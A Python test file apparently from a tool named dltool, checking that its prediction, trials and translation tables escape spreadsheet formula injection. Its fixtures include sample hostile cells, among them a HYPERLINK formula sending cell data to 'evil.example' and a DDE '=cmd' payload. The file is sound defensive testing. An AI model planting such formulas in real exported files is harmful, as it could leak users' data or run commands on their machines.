"""Tables dltool writes are safe to open in a spreadsheet (issue 18, point 5).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets; the class names and inputs
in `predictions-SPLIT.csv` come from the user's data. Before this change
they were written raw.
"""

import csv

import numpy as np
import pytest

from dltool.core import tables
from dltool.core.runs import Run

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["cat", "a=b", "1.5", "", "'quoted'", "'=already escaped", "it's - fine"]


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_safe_cell_round_trips_and_never_starts_a_formula(text):
    cell = tables.safe_cell(text)
    assert not cell.startswith(tables.FORMULA_STARTS)
    assert tables.plain_cell(cell) == text


def test_numbers_are_written_as_numbers():
    assert tables.safe_cell(-1) == -1
    assert tables.safe_cell(0.5) == 0.5
    assert tables.format_rows([["a", -1, 2.5]]) == "a,-1,2.5\n"


class _Run(Run):
    """A run folder without a project: only its file names are used here."""

    def __init__(self, folder):
        super().__init__(folder, {"name": "r"})


def test_predictions_csv_neutralizes_hostile_class_names_and_inputs(tmp_path):
    from dltool.tasks import classifier

    run = _Run(tmp_path)
    class_names = ["=cmd|' /C calc'!A0", "dog"]
    inputs = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 is a fine sentence"]
    probabilities = np.array([[0.9, 0.1], [0.2, 0.8]], dtype=np.float32)
    classifier.save_predictions(run, "test", np.array([0, 1]), probabilities, class_names,
                                inputs)

    with open(run.predictions_file("test"), newline="", encoding="utf-8") as f:
        raw = list(csv.reader(f))
    cells = [cell for row in raw for cell in row]
    assert not any(cell.startswith(tables.FORMULA_STARTS) for cell in cells), raw
    assert raw[1][1] == "'=cmd|' /C calc'!A0"
    assert raw[1][5] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    rows = classifier.read_predictions(run, "test")
    assert [r["true"] for r in rows] == class_names
    assert [r["input"] for r in rows] == inputs
    assert rows[0]["confidence"] == pytest.approx(0.9)


def test_trials_table_neutralizes_hyperparameter_text(tmp_path):
    from dltool.tuning import trials

    rows = [["trial", "optimizer", "val_accuracy"], ["1", "=1+2", "0.5"]]
    trials.write_tables(tmp_path, rows)
    with open(tmp_path / "trials.csv", newline="") as f:
        written = list(csv.reader(f))
    assert written[1] == ["1", "'=1+2", "0.5"]


def test_translations_tsv_neutralizes_and_reads_back(tmp_path):
    from dltool.tasks import translator

    pairs = [("=1+1", "-Bonjour."), ("Hello.", "Bonjour.")]
    hypotheses = ["@A1", "Bonjour."]
    path = tmp_path / "translations-test.tsv"
    translator._write_translations(path, pairs, hypotheses)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[1] == "'=1+1\t'-Bonjour.\t'@A1"
    assert translator._read_translations(path) == [(*p, h) for p, h in zip(pairs, hypotheses)]
